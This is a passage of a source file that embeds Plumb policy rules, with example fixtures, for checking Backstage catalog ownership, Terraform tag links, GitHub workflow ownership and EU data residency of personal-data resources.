            apiVersion: backstage.io/v1alpha1
            kind: Group
            metadata: {name: payments}
            spec: {type: team, children: []}
            ---
            apiVersion: backstage.io/v1alpha1
            kind: User
            metadata: {name: ana}
            spec: {memberOf: [payments]}
          """
        }
        example fail "an empty team" """
          apiVersion: backstage.io/v1alpha1
          kind: Group
          metadata: {name: ↓web}
          spec: {type: team, children: []}
        """ expect "group 'web' has no members and no child groups"
      }

      """#),
    PolicySource(
      path: "rules/ownership/group_hierarchy_has_no_cycle.plumb",
      text: #"""
      rule group_hierarchy_has_no_cycle {
        title "A group is not its own ancestor"
        severity high
        category ownership
        tags [catalog, ownership]
        rationale """
          `spec.parent`/`spec.children` form the org chart that escalations, scorecard roll-ups and
          access reviews walk. A parent chain that comes back to where it started (a is a child of b, b
          of a) has no top: roll-ups never finish or count twice, and an escalation never reaches a
          head of department. The catalog accepts such cycles; Plumb's catalog reader reports them as
          `catalog.parent-cycle` diagnostics, and this rule turns them into findings that packs can block.
          The language has no recursion, so the rule follows `childOf` a bounded number of steps:
          `max_depth` (at most 8) parents up. Cycles longer than that are still reported by the
          `catalog.parent-cycle` diagnostic. Ownership cycles (a component owned by a component that it
          owns) cannot exist when owners are Groups, which `owner_is_a_group` and the other
          `*_owner_is_a_group` rules require.
        """
        remediation "Break the cycle: set `spec.parent` of one of the groups to a group above both (and fix the matching `spec.children`)."
        param max_depth: int = 8

        for g in catalog.Group
        let p1 = g -> childOf
        let p2 = p1 -> childOf
        let p3 = p2 -> childOf
        let p4 = p3 -> childOf
        let p5 = p4 -> childOf
        let p6 = p5 -> childOf
        let p7 = p6 -> childOf
        let p8 = p7 -> childOf
        when count(p1) > 0
        require not ((param.max_depth >= 1 and g in p1) or (param.max_depth >= 2 and g in p2)
            or (param.max_depth >= 3 and g in p3) or (param.max_depth >= 4 and g in p4)
            or (param.max_depth >= 5 and g in p5) or (param.max_depth >= 6 and g in p6)
            or (param.max_depth >= 7 and g in p7) or (param.max_depth >= 8 and g in p8))
          else "group '${g.metadata.name}' is its own ancestor: its parent chain ('${join(map(p in p1, name(p)), "', '")}' …) comes back to it"
          at g.spec.parent

        example pass {
          file "catalog-info.yaml" """
            apiVersion: backstage.io/v1alpha1
            kind: Group
            metadata: {name: payments}
            spec: {type: team, parent: engineering, children: []}
            ---
            apiVersion: backstage.io/v1alpha1
            kind: Group
            metadata: {name: engineering}
            spec: {type: department, parent: company, children: [payments]}
            ---
            apiVersion: backstage.io/v1alpha1
            kind: Group
            metadata: {name: company}
            spec: {type: root, children: [engineering]}
          """
        }
        example fail "two groups that are each other's parent" {
          file "catalog-info.yaml" """
            apiVersion: backstage.io/v1alpha1
            kind: Group
            metadata: {name: payments}
            spec: {type: team, parent: ↓engineering, children: []}
            ---
            apiVersion: backstage.io/v1alpha1
            kind: Group
            metadata: {name: engineering}
            spec: {type: department, parent: ↓payments, children: []}
          """
        } expect "group 'payments' is its own ancestor: its parent chain ('engineering'"
        example fail "a longer loop through children" {
          file "catalog-info.yaml" """
            apiVersion: backstage.io/v1alpha1
            kind: Group
            metadata: {name: a}
            spec: {type: team, parent: ↓c, children: []}
            ---
            apiVersion: backstage.io/v1alpha1
            kind: Group
            metadata: {name: b}
            spec: {type: team, parent: ↓a, children: []}
            ---
            apiVersion: backstage.io/v1alpha1
            kind: Group
            metadata: {name: c}
            spec: {type: team, parent: ↓b, children: []}
          """
        } expect "group 'a' is its own ancestor"
      }

      """#),
    PolicySource(
      path: "rules/ownership/owner_is_a_group.plumb",
      text: #"""
      rule owner_is_a_group {
        title "A component's owner is a Group that exists"
        severity high
        category ownership
        tags [catalog, ownership]
        rationale """
          `spec.owner` must resolve to a Group in the catalog. An owner that names nobody (a typo, a
          renamed or deleted team) looks owned but reaches no one. Individual users leave companies;
          groups outlive them, so users are accepted only where `allow_users` is set.
        """
        remediation "Point `spec.owner` at an existing Group, or register the Group in the catalog."
        param allow_users: bool = false

        for c in catalog.Component
        let owners = c -> ownedBy
        when exists(c.spec.owner)
        require count(owners) > 0
          else "owner '${c.spec.owner}' of component '${c.metadata.name}' does not exist in the catalog" at c.spec.owner
        require all(o in owners, kind(o) == "catalog.Group" or (param.allow_users and kind(o) == "catalog.User"))
          else "component '${c.metadata.name}' is owned by ${join(map(o in owners, id(o)), ", ")}, not a Group" at c.spec.owner

        example pass {
          file "catalog-info.yaml" """
            apiVersion: backstage.io/v1alpha1
            kind: Component
            metadata: {name: api}
            spec: {type: service, lifecycle: production, owner: payments}
            ---
            apiVersion: backstage.io/v1alpha1
            kind: Group
            metadata: {name: payments}
            spec: {type: team, children: []}
          """
        }
        example fail "dangling owner" """
          apiVersion: backstage.io/v1alpha1
          kind: Component
          metadata: {name: api}
          spec: {type: service, lifecycle: production, owner: ↓ghosts}
        """ expect "owner 'ghosts' of component 'api' does not exist in the catalog"
        example fail "owned by a user" {
          file "catalog-info.yaml" """
            apiVersion: backstage.io/v1alpha1
            kind: Component
            metadata: {name: api}
            spec: {type: service, lifecycle: production, owner: ↓user:ana}
            ---
            apiVersion: backstage.io/v1alpha1
            kind: User
            metadata: {name: ana}
            spec: {memberOf: []}
          """
        } expect "is owned by catalog:user:default/ana, not a Group"
        example fail "owner the catalog would reject (wrong apiVersion)" {
          file "catalog-info.yaml" """
            apiVersion: backstage.io/v1alpha1
            kind: Component
            metadata: {name: api}
            spec: {type: service, lifecycle: production, owner: ↓payments}
            ---
            apiVersion: backstage.io/v2
            kind: Group
            metadata: {name: payments}
            spec: {type: team, children: []}
          """
        } expect "owner 'payments' of component 'api' does not exist in the catalog"
        example fail "owner the catalog would reject (invalid name)" {
          file "catalog-info.yaml" """
            apiVersion: backstage.io/v1alpha1
            kind: Component
            metadata: {name: api}
            spec: {type: service, lifecycle: production, owner: ↓"group:pay ments"}
            ---
            apiVersion: backstage.io/v1alpha1
            kind: Group
            metadata: {name: pay ments}
            spec: {type: team, children: []}
          """
        } expect "does not exist in the catalog"
      }

      """#),
    PolicySource(
      path: "rules/ownership/production_component_has_annotations.plumb",
      text: #"""
      rule production_component_has_annotations {
        title "Production components link their source and their docs"
        severity low
        category ownership
        tags [catalog, ownership, production-readiness]
        rationale """
          During an incident the first two questions are "where is the code?" and "where is the
          runbook?". `backstage.io/source-location` answers the first (Backstage adds it for entities it
          ingests from a repository, but not for entities registered by URL or from another
          repository) and `backstage.io/techdocs-ref` the second. A production component without them
          sends the on-call engineer searching.
        """
        remediation """
          Add the annotations to the component's `metadata.annotations`, e.g.
          `backstage.io/source-location: url:https://github.com/acme/payments/tree/main/` and
          `backstage.io/techdocs-ref: dir:.`.
        """
        param production_lifecycles: list<string> = ["production"]
        param required_annotations: list<string> = ["backstage.io/source-location", "backstage.io/techdocs-ref"]

        for c in catalog.Component
        when c.spec.lifecycle in param.production_lifecycles
        let missing = filter(a in param.required_annotations, is_empty(c.metadata.annotations[a]))
        require count(missing) == 0
          else "production component '${c.metadata.name}' lacks annotation ${join(missing, ", ")}" at c.metadata.name

        example pass """
          apiVersion: backstage.io/v1alpha1
          kind: Component
          metadata:
            name: payments-api
            annotations:
              backstage.io/source-location: url:https://github.com/acme/payments/tree/main/
              backstage.io/techdocs-ref: dir:.
          spec: {type: service, lifecycle: production, owner: payments}
        """
        example fail "no docs" """
          apiVersion: backstage.io/v1alpha1
          kind: Component
          metadata:
            name: ↓payments-api
            annotations:
              backstage.io/source-location: url:https://github.com/acme/payments/tree/main/
          spec: {type: service, lifecycle: production, owner: payments}
        """ expect "production component 'payments-api' lacks annotation backstage.io/techdocs-ref"
      }

      """#),
    PolicySource(
      path: "rules/ownership/production_component_has_system.plumb",
      text: #"""
      rule production_component_has_system {
        title "Production components belong to a System"
        severity medium
        category ownership
        tags [catalog, ownership, production-readiness]
        rationale """
          A System groups the components that are deployed, versioned and owned together, and is where
          architecture decisions, incident ownership and cost roll up. A production component outside
          any System has no place in the architecture: its dependencies, its blast radius and the team
          that answers for the whole are unknown. A `spec.system` that names no System in the catalog
          is as good as none. A subcomponent (`spec.subcomponentOf`) may take its parent's System.
        """
        remediation "Set `spec.system` to the System the component is part of, and register that System in the catalog."
        param production_lifecycles: list<string> = ["production"]

        for c in catalog.Component
        when c.spec.lifecycle in param.production_lifecycles
        let parents = c -> partOf
        require exists(c.spec.system) or exists(c.spec.subcomponentOf)
          else "production component '${c.metadata.name}' belongs to no system (spec.system is not set)" at c.spec
        require any(p in parents, kind(p) == "catalog.System" or any(s in p -> partOf, kind(s) == "catalog.System"))
            or not (exists(c.spec.system) or exists(c.spec.subcomponentOf))
          else "production component '${c.metadata.name}' names system '${default(c.spec.system, c.spec.subcomponentOf)}', which is not a System in the catalog"
          at default(c.spec.system, c.spec.subcomponentOf)

        example pass {
          file "catalog-info.yaml" """
            apiVersion: backstage.io/v1alpha1
            kind: Component
            metadata: {name: payments-api}
            spec: {type: service, lifecycle: production, owner: payments, system: checkout}
            ---
            apiVersion: backstage.io/v1alpha1
            kind: System
            metadata: {name: checkout}
            spec: {owner: payments}
          """
        }
        example pass "an experimental component needs no system" """
          apiVersion: backstage.io/v1alpha1
          kind: Component
          metadata: {name: spike}
          spec: {type: service, lifecycle: experimental, owner: payments}
        """
        example fail "no system" """
          apiVersion: backstage.io/v1alpha1
          kind: Component
          metadata: {name: storefront}
          spec: ↓{type: website, lifecycle: production, owner: web}
        """ expect "production component 'storefront' belongs to no system"
        example fail "a system that does not exist" """
          apiVersion: backstage.io/v1alpha1
          kind: Component
          metadata: {name: storefront}
          spec: {type: website, lifecycle: production, owner: web, system: ↓shop}
        """ expect "names system 'shop', which is not a System in the catalog"
      }

      """#),
    PolicySource(
      path: "rules/ownership/resource_owner_is_a_group.plumb",
      text: #"""
      rule resource_owner_is_a_group {
        title "A Resource's owner is a Group that exists"
        severity high
        category ownership
        tags [catalog, ownership]
        rationale """
          A Resource (a database, a bucket, a queue) is where data lives: when it fills up, leaks or must
          be deleted for a GDPR request, someone has to answer. An owner that names nobody looks owned but
          reaches no one.
          `spec.owner` must resolve to a Group in the catalog; individual users leave, so a User is
          accepted only where `allow_users` is set.
        """
        remediation "Point `spec.owner` of the Resource at an existing Group (`owner: group:payments`), or register the Group in the catalog."
        param allow_users: bool = false

        for x in catalog.Resource
        let owners = x -> ownedBy
        require exists(x.spec.owner) and trim(to_string(x.spec.owner)) != ""
          else "resource '${x.metadata.name}' has no spec.owner" at x.spec
        when exists(x.spec.owner)
        require count(owners) > 0
          else "owner '${x.spec.owner}' of resource '${x.metadata.name}' does not exist in the catalog" at x.spec.owner
        require all(o in owners, kind(o) == "catalog.Group" or (param.allow_users and kind(o) == "catalog.User"))
          else "resource '${x.metadata.name}' is owned by ${join(map(o in owners, id(o)), ", ")}, not a Group" at x.spec.owner

        example pass """
            apiVersion: backstage.io/v1alpha1
            kind: Resource
            metadata: {name: orders}
            spec: {type: database, owner: payments}
            ---
            apiVersion: backstage.io/v1alpha1
            kind: Group
            metadata: {name: payments}
            spec: {type: team, children: []}
        """
        example fail "no owner" """
            apiVersion: backstage.io/v1alpha1
            kind: Resource
            metadata: {name: orders}
            spec: ↓{type: database}
        """ expect "'orders' has no spec.owner"
        example fail "dangling owner" """
            apiVersion: backstage.io/v1alpha1
            kind: Resource
            metadata: {name: orders}
            spec: {type: database, owner: ↓ghosts}
        """ expect "owner 'ghosts' of"
        example fail "owned by a user" """
            apiVersion: backstage.io/v1alpha1
            kind: Resource
            metadata: {name: orders}
            spec: {type: database, owner: ↓user:ana}
            ---
            apiVersion: backstage.io/v1alpha1
            kind: User
            metadata: {name: ana}
            spec: {memberOf: []}
        """ expect "is owned by catalog:user:default/ana, not a Group"
      }

      """#),
    PolicySource(
      path: "rules/ownership/system_owner_is_a_group.plumb",
      text: #"""
      rule system_owner_is_a_group {
        title "A System's owner is a Group that exists"
        severity high
        category ownership
        tags [catalog, ownership]
        rationale """
          A System's owner answers for the whole: its architecture, its budget, its incidents that cross
          components. A System whose owner does not resolve to a team leaves every component in it without
          an escalation path.
          `spec.owner` must resolve to a Group in the catalog; individual users leave, so a User is
          accepted only where `allow_users` is set.
        """
        remediation "Point `spec.owner` of the System at an existing Group (`owner: group:payments`), or register the Group in the catalog."
        param allow_users: bool = false

        for x in catalog.System
        let owners = x -> ownedBy
        require exists(x.spec.owner) and trim(to_string(x.spec.owner)) != ""
          else "system '${x.metadata.name}' has no spec.owner" at x.spec
        when exists(x.spec.owner)
        require count(owners) > 0
          else "owner '${x.spec.owner}' of system '${x.metadata.name}' does not exist in the catalog" at x.spec.owner
        require all(o in owners, kind(o) == "catalog.Group" or (param.allow_users and kind(o) == "catalog.User"))
          else "system '${x.metadata.name}' is owned by ${join(map(o in owners, id(o)), ", ")}, not a Group" at x.spec.owner

        example pass """
            apiVersion: backstage.io/v1alpha1
            kind: System
            metadata: {name: orders}
            spec: {owner: payments}
            ---
            apiVersion: backstage.io/v1alpha1
            kind: Group
            metadata: {name: payments}
            spec: {type: team, children: []}
        """
        example fail "no owner" """
            apiVersion: backstage.io/v1alpha1
            kind: System
            metadata: {name: orders}
            spec: ↓{type: x}
        """ expect "'orders' has no spec.owner"
        example fail "dangling owner" """
            apiVersion: backstage.io/v1alpha1
            kind: System
            metadata: {name: orders}
            spec: {owner: ↓ghosts}
        """ expect "owner 'ghosts' of"
        example fail "owned by a user" """
            apiVersion: backstage.io/v1alpha1
            kind: System
            metadata: {name: orders}
            spec: {owner: ↓user:ana}
            ---
            apiVersion: backstage.io/v1alpha1
            kind: User
            metadata: {name: ana}
            spec: {memberOf: []}
        """ expect "is owned by catalog:user:default/ana, not a Group"
      }

      """#),
    PolicySource(
      path: "rules/ownership/terraform_component_tag_resolves.plumb",
      text: #"""
      rule terraform_component_tag_resolves {
        title "Terraform resources tagged with a component name one that exists"
        severity medium
        category ownership
        tags [terraform, catalog, cross-source]
        rationale """
          The `component` tag is how a cloud resource finds its owner, its data classification and its
          scorecard. A tag naming a component that is not in the catalog breaks all three silently. The
          rule runs only when a catalog was checked along with the plan.
        """
        remediation "Fix the tag to name a catalog Component, or register the component."

        for r in terraform.resource
        let component = r.tags["component"]
        # Without a catalog there is nothing to resolve against (the linker says so once).
        when count(catalog.Component) > 0
        when exists(component)
        require count(catalog.Component[name(it) == component]) == 1
          else "'${r.address}' is tagged component '${component}', which is not a Component in the catalog" at component

        example pass {
          file "catalog-info.yaml" """
            apiVersion: backstage.io/v1alpha1
            kind: Component
            metadata: {name: payments-api}
            spec: {type: service, lifecycle: production, owner: payments}
          """
          file "plan.tfplan.json" """
            {"format_version": "1.2", "resource_changes": [
              {"address": "aws_s3_bucket.b", "mode": "managed", "type": "aws_s3_bucket", "name": "b",
               "provider_name": "registry.terraform.io/hashicorp/aws",
               "change": {"actions": ["create"], "before": null,
                 "after": {"tags": {"component": "payments-api"}}, "after_unknown": {}}}]}
          """
        }
        example fail {
          file "catalog-info.yaml" """
            apiVersion: backstage.io/v1alpha1
            kind: Component
            metadata: {name: payments-api}
            spec: {type: service, lifecycle: production, owner: payments}
          """
          file "plan.tfplan.json" """
            {"format_version": "1.2", "resource_changes": [
              {"address": "aws_s3_bucket.b", "mode": "managed", "type": "aws_s3_bucket", "name": "b",
               "provider_name": "registry.terraform.io/hashicorp/aws",
               "change": {"actions": ["create"], "before": null,
                 "after": {"tags": {"component": ↓"payment-api"}}, "after_unknown": {}}}]}
          """
        } expect "tagged component 'payment-api', which is not a Component in the catalog"
        example indeterminate "component tag known only after apply" {
          file "catalog-info.yaml" """
            apiVersion: backstage.io/v1alpha1
            kind: Component
            metadata: {name: payments-api}
            spec: {type: service, lifecycle: production, owner: payments}
          """
          file "plan.tfplan.json" """
            {"format_version": "1.2", "resource_changes": [
              {"address": "aws_s3_bucket.b", "mode": "managed", "type": "aws_s3_bucket", "name": "b",
               "provider_name": "registry.terraform.io/hashicorp/aws",
               "change": {"actions": ["create"], "before": null,
                 "after": {"tags": {"Name": "b"}}, "after_unknown": {"tags": {"component": true}}}}]}
          """
        }
      }

      """#),
    PolicySource(
      path: "rules/ownership/terraform_owner_tag_resolves.plumb",
      text: #"""
      rule terraform_owner_tag_resolves {
        title "Terraform owner tags name a Group or User that exists"
        severity medium
        category ownership
        tags [terraform, catalog, cross-source]
        rationale """
          The owner tag is how an alert, a cost report or a security finding on a cloud resource reaches
          a team. A tag naming a team that was renamed or never registered (`owner = "platfrom"`) looks
          owned and routes to nobody. Plumb resolves the tag against the catalog's Groups and Users
          (`r -> ownedBy`); this rule reports tags that resolve to nothing. It runs only when a catalog
          was checked along with the plan.
        """
        remediation "Fix the tag to name a catalog Group (`owner = \"payments\"` or `group:default/payments`), or register the Group."
        param owner_tag_keys: list<string> = ["owner", "team"]

        for r in terraform.resource
        when count(catalog.Component) > 0
        when known(r.tags)
        let key = first(filter(k in param.owner_tag_keys, exists(r.tags[k])))
        when exists(key)
        # An owner tag known only after apply: indeterminate; an empty one: nothing to resolve.
        when not is_empty(r.tags[key])
        require count(r -> ownedBy) > 0
          else "'${r.address}' is tagged ${key} = '${r.tags[key]}', which names no Group or User in the catalog"
          at r.tags[key]

        example pass {
          file "catalog-info.yaml" """
            apiVersion: backstage.io/v1alpha1
            kind: Group
            metadata: {name: payments}
            spec: {type: team, children: []}
            ---
            apiVersion: backstage.io/v1alpha1
            kind: Component
            metadata: {name: payments-api}
            spec: {type: service, lifecycle: production, owner: payments}
          """
          file "plan.tfplan.json" """
            {"format_version": "1.2", "resource_changes": [
              {"address": "aws_s3_bucket.b", "mode": "managed", "type": "aws_s3_bucket", "name": "b",
               "provider_name": "registry.terraform.io/hashicorp/aws",
               "change": {"actions": ["create"], "before": null,
                 "after": {"tags": {"owner": "payments"}}, "after_unknown": {}}}]}
          """
        }
        example fail "a misspelt team" {
          file "catalog-info.yaml" """
            apiVersion: backstage.io/v1alpha1
            kind: Group
            metadata: {name: platform}
            spec: {type: team, children: []}
            ---
            apiVersion: backstage.io/v1alpha1
            kind: Component
            metadata: {name: payments-api}
            spec: {type: service, lifecycle: production, owner: platform}
          """
          file "plan.tfplan.json" """
            {"format_version": "1.2", "resource_changes": [
              {"address": "aws_s3_bucket.b", "mode": "managed", "type": "aws_s3_bucket", "name": "b",
               "provider_name": "registry.terraform.io/hashicorp/aws",
               "change": {"actions": ["create"], "before": null,
                 "after": {"tags": {"owner": ↓"platfrom"}}, "after_unknown": {}}}]}
          """
        } expect "'aws_s3_bucket.b' is tagged owner = 'platfrom', which names no Group or User in the catalog"
        example indeterminate "owner tag known only after apply" {
          file "catalog-info.yaml" """
            apiVersion: backstage.io/v1alpha1
            kind: Group
            metadata: {name: payments}
            spec: {type: team, children: []}
            ---
            apiVersion: backstage.io/v1alpha1
            kind: Component
            metadata: {name: payments-api}
            spec: {type: service, lifecycle: production, owner: payments}
          """
          file "plan.tfplan.json" """
            {"format_version": "1.2", "resource_changes": [
              {"address": "aws_s3_bucket.b", "mode": "managed", "type": "aws_s3_bucket", "name": "b",
               "provider_name": "registry.terraform.io/hashicorp/aws",
               "change": {"actions": ["create"], "before": null,
                 "after": {"tags": {"Name": "b"}}, "after_unknown": {"tags": {"owner": true}}}}]}
          """
        }
      }

      """#),
    PolicySource(
      path: "rules/ownership/terraform_resource_has_owner.plumb",
      text: #"""
      rule terraform_resource_has_owner {
        title "Terraform resources are linked to a catalog component or owner"
        severity medium
        category ownership
        tags [terraform, catalog, cross-source]
        rationale """
          A cloud resource nobody owns is the one that is still running, still public and still holding
          data two years after its service was retired. Plumb links a resource to the catalog through
          its tags (a component tag such as `component` or `backstage.io/component` gives `belongsTo`, an
          owner tag such as `owner` or `team` gives `ownedBy`; the keys are set in `.plumb.yaml`). A
          taggable resource with neither link cannot be attributed, costed or cleaned up. A resource
          whose tags are unknown until apply is indeterminate. The rule runs only when a catalog was
          checked along with the plan.
        """
        remediation """
          Tag the resource with the component it serves (`tags = { component = "payments-api" }`), or set
          the tags once for every resource through the AWS provider's `default_tags`, Azure policy or
          Google `default_labels`.
        """

        param link_tag_keys: list<string> = ["backstage.io/component", "component", "service", "app", "owner", "team"]

        for r in terraform.resource
        when count(catalog.Component) > 0
        when not (r.actions == ["delete"] or r.actions == ["forget"])
        # Resources without tags, tags_all or labels cannot be tagged.
        when exists(r.tags)
        # A component or owner tag that names nothing: the *_tag_resolves rules report it.
        when not any(k in param.link_tag_keys, known(r.tags) and not is_empty(r.tags[k]))
        # Tags unknown until apply (`tags_all` with the provider's default tags still unknown): the
        # resource cannot be linked, so whether it has an owner is unknown.
        # Known resource tags that are empty, with a provider that sets no default tags, settle it.
        let tags_unknown = is_unknown(r.tags) and (is_unknown(r.after.tags) or not is_empty(r.after.tags)
          or not exists(r.provider.resolved_key) or exists(r.provider.expressions.default_tags)
          or exists(r.provider.expressions.default_labels))
        require count(r -> belongsTo) > 0 or count(r -> ownedBy) > 0 or (tags_unknown and r.tags != null)
          else "'${r.address}' has no tag that links it to a catalog component or owner (tags: ${join(keys(r.tags), ", ")})"
          at r.address

        example pass {
          file "catalog-info.yaml" """
            apiVersion: backstage.io/v1alpha1
            kind: Component
            metadata: {name: payments-api}
            spec: {type: service, lifecycle: production, owner: payments}
          """
          file "plan.tfplan.json" """
            {"format_version": "1.2", "resource_changes": [
              {"address": "aws_s3_bucket.b", "mode": "managed", "type": "aws_s3_bucket", "name": "b",
               "provider_name": "registry.terraform.io/hashicorp/aws",
               "change": {"actions": ["create"], "before": null,
                 "after": {"tags": {"component": "payments-api"}}, "after_unknown": {}}}]}
          """
        }
        example fail "no component or owner tag" {
          file "catalog-info.yaml" """
            apiVersion: backstage.io/v1alpha1
            kind: Component
            metadata: {name: payments-api}
            spec: {type: service, lifecycle: production, owner: payments}
          """
          file "plan.tfplan.json" """
            {"format_version": "1.2", "resource_changes": [
              {"address": ↓"aws_s3_bucket.b", "mode": "managed", "type": "aws_s3_bucket", "name": "b",
               "provider_name": "registry.terraform.io/hashicorp/aws",
               "change": {"actions": ["create"], "before": null,
                 "after": {"tags": {"Name": "exports"}}, "after_unknown": {}}}]}
          """
        } expect "'aws_s3_bucket.b' has no tag that links it to a catalog component or owner (tags: Name)"
        example indeterminate "tags known only after apply" {
          file "catalog-info.yaml" """
            apiVersion: backstage.io/v1alpha1
            kind: Component
            metadata: {name: payments-api}
            spec: {type: service, lifecycle: production, owner: payments}
          """
          file "plan.tfplan.json" """
            {"format_version": "1.2", "resource_changes": [
              {"address": "aws_s3_bucket.b", "mode": "managed", "type": "aws_s3_bucket", "name": "b",
               "provider_name": "registry.terraform.io/hashicorp/aws",
               "change": {"actions": ["create"], "before": null,
                 "after": {"bucket": "exports"}, "after_unknown": {"tags": true, "tags_all": true}}}]}
          """
        }
      }

      """#),
    PolicySource(
      path: "rules/ownership/workflow_belongs_to_owned_component.plumb",
      text: #"""
      rule workflow_belongs_to_owned_component {
        title "GitHub workflows belong to a catalog component with an owner"
        severity medium
        category ownership
        tags [github, catalog, cross-source]
        rationale """
          A workflow deploys, publishes and holds secrets; when it fails at 3 a.m. or leaks a token,
          someone must answer for it. Plumb links each workflow to the catalog Components of its
          repository (`w -> belongsTo`: by the repository in `.plumb.yaml` and the components'
          project-slug or source-location annotation, else the catalog file nearest above the workflow).
          A workflow that belongs to no component, or only to components whose owner does not exist,
          has no accountable team. The rule runs only when a catalog was checked along with the workflows.
        """
        remediation """
          Register the repository's component in a `catalog-info.yaml` at the repository root (or set
          `repository:` in `.plumb.yaml` and the component's `github.com/project-slug` annotation), and
          give it an owner that exists.
        """

        for w in github.workflow
        when count(catalog.Component) > 0
        let components = w -> belongsTo
        require count(components) > 0
          else "workflow '${file(w)}' belongs to no catalog component"
        require count(components) == 0 or any(c in components, count(c -> ownedBy) > 0)
          else "workflow '${file(w)}' belongs to ${join(map(c in components, name(c)), ", ")}, which has no owner in the catalog"

        example pass {
          file "catalog-info.yaml" """
            apiVersion: backstage.io/v1alpha1
            kind: Component
            metadata: {name: payments-api}
            spec: {type: service, lifecycle: production, owner: payments}
            ---
            apiVersion: backstage.io/v1alpha1
            kind: Group
            metadata: {name: payments}
            spec: {type: team, children: []}
          """
          file ".github/workflows/ci.yml" """
            on: push
            jobs:
              test:
                runs-on: ubuntu-latest
                steps:
                  - run: make test
          """
        }
        example fail "no component in the repository" {
          file "services/api/catalog-info.yaml" """
            apiVersion: backstage.io/v1alpha1
            kind: Component
            metadata: {name: payments-api}
            spec: {type: service, lifecycle: production, owner: payments}
          """
          file ".github/workflows/ci.yml" """
            ↓on: push
            jobs:
              test:
                runs-on: ubuntu-latest
                steps:
                  - run: make test
          """
        } expect "workflow '.github/workflows/ci.yml' belongs to no catalog component"
        example fail "the component's owner does not exist" {
          file "catalog-info.yaml" """
            apiVersion: backstage.io/v1alpha1
            kind: Component
            metadata: {name: payments-api}
            spec: {type: service, lifecycle: production, owner: ghosts}
          """
          file ".github/workflows/ci.yml" """
            ↓on: push
            jobs:
              test:
                runs-on: ubuntu-latest
                steps:
                  - run: make test
          """
        } expect "belongs to payments-api, which has no owner in the catalog"
      }

      """#),
    PolicySource(
      path: "rules/residency/personal_data_in_allowed_regions.plumb",
      text: #"""
      rule personal_data_in_allowed_regions {
        title "Resources of components holding personal data stay in allowed regions"
        severity critical
        category residency
        tags [terraform, catalog, cross-source, gdpr, residency]
        docs "docs/residency.md"
        rationale """
          A catalog entity annotated `plumb.dev/data-class: personal` processes personal data, and every
          Terraform resource its component tag links to it (`r -> belongsTo`) must keep that data inside
          the jurisdiction (GDPR chapter V: a bucket created in `us-east-1` is a transfer to a third
          country). The location is the one the provider will use: AWS `region` (else the provider
          configuration's region, as AWS provider 5 plans leave it to the provider), Azure `location`,
          Google `location`/`region`/`zone`, with multi-regions expanded (GCS `EUR5` is Belgium and
          London, so not EU). A location unknown until apply, or one Plumb's region data does not list,
          cannot be shown to comply: it is indeterminate, which a gate treats as blocking, so residency
          fails closed. A resource whose tags are unknown cannot be linked, so whether it holds personal
          data is itself indeterminate (when the catalog has personal-data components at all).
        """
        remediation """
          Create the resource in a region of the jurisdiction: set the resource's `region`/`location`,
          or pass it a provider configured for such a region (`provider = aws.eu`). If the component does
          not hold personal data, fix its `plumb.dev/data-class` annotation instead. To allow exact regions
          rather than a jurisdiction, set `allowed_regions` in the pack.
        """
        param jurisdiction: string = "EU"
        param allowed_regions: list<string> = []
        param replication_only_types: list<string> = ["aws_db_instance_automated_backups_replication", "aws_dynamodb_table_replica"]

        for r in terraform.resource
        let linked = r -> belongsTo
        let personal = filter(e in linked, e.metadata.annotations["plumb.dev/data-class"] == "personal")
        let c = first(personal)
        let personal_components = count(catalog.Component[metadata.annotations["plumb.dev/data-class"] == "personal"])
        when not (r.actions == ["delete"] or r.actions == ["forget"])
        # Global services have no region: personal_data_in_global_service names them.
        when not is_global_service(r)
        # Resources whose own location is a copy destination: personal_data_replicas_in_allowed_regions.
        when type(r) not in param.replication_only_types
        # Tags unknown until apply (`tags_all` with the provider's default tags still unknown): the
        # resource cannot be linked, so whether it belongs to a personal-data component is unknown.
        # Known resource tags that are empty, with a provider that sets no default tags, settle it.
        let tags_unknown = is_unknown(r.tags) and (is_unknown(r.after.tags) or not is_empty(r.after.tags)
          or not exists(r.provider.resolved_key) or exists(r.provider.expressions.default_tags)
          or exists(r.provider.expressions.default_labels))
        # (`tags_unknown and r.tags != null` is unknown exactly then, false otherwise.)
        when count(personal) > 0 or (personal_components > 0 and count(linked) == 0 and tags_unknown and r.tags != null)
        let loc = location(r)
        # No location of its own (a random id, a role assignment): nothing is stored.
        when exists(loc)
        let allowed = map(a in param.allowed_regions, replace(lower(a), " ", ""))
        let explicit = count(allowed) > 0
        let inside = (explicit and loc in allowed) or (not explicit and in_jurisdiction(loc, param.jurisdiction))
        let scope = first(filter(s in [join(param.allowed_regions, ", "), param.jurisdiction], s != ""))
        require is_unknown(inside) or inside
          else "'${r.address}' holds personal data of '${name(c)}' in region '${loc}' (${default(jurisdiction_of(loc), "not in Plumb's region data")}), outside ${scope}"
          at loc
        require known(inside) or inside
          else "cannot tell whether '${r.address}' keeps the personal data of '${name(c)}' in ${scope}: its location '${loc}' is unknown until apply or not in Plumb's region data"
          at loc

        example pass "EU region" {
          file "catalog-info.yaml" """
            apiVersion: backstage.io/v1alpha1
            kind: Component
            metadata:
              name: payments-api
              annotations: {plumb.dev/data-class: personal}
            spec: {type: service, lifecycle: production, owner: payments}
          """
          file "plan.tfplan.json" """
            {"format_version": "1.2", "resource_changes": [
              {"address": "aws_s3_bucket.b", "mode": "managed", "type": "aws_s3_bucket", "name": "b",
               "provider_name": "registry.terraform.io/hashicorp/aws",
               "change": {"actions": ["create"], "before": null,
                 "after": {"region": "eu-west-1", "tags": {"component": "payments-api"}}, "after_unknown": {}}}]}
          """
        }
        example fail "us region on the resource (AWS provider 6)" {
          file "catalog-info.yaml" """
            apiVersion: backstage.io/v1alpha1
            kind: Component
            metadata:
              name: payments-api
              annotations: {plumb.dev/data-class: personal}
            spec: {type: service, lifecycle: production, owner: payments}
          """
          file "plan.tfplan.json" """
            {"format_version": "1.2", "resource_changes": [
              {"address": "aws_s3_bucket.b", "mode": "managed", "type": "aws_s3_bucket", "name": "b",
               "provider_name": "registry.terraform.io/hashicorp/aws",
               "change": {"actions": ["create"], "before": null,
                 "after": {"region": ↓"us-east-1", "tags": {"component": "payments-api"}}, "after_unknown": {}}}]}
          """
        } expect "holds personal data of 'payments-api' in region 'us-east-1' (US), outside EU"
        example fail "provider alias in the US (AWS provider 5: the region is the provider's)" {
          file "catalog-info.yaml" """
            apiVersion: backstage.io/v1alpha1
            kind: Component
            metadata:
              name: payments-api
              annotations: {plumb.dev/data-class: personal}
            spec: {type: service, lifecycle: production, owner: payments}
          """
          file "infra/plan.tfplan.json" """
            {"format_version": "1.2", "resource_changes": [
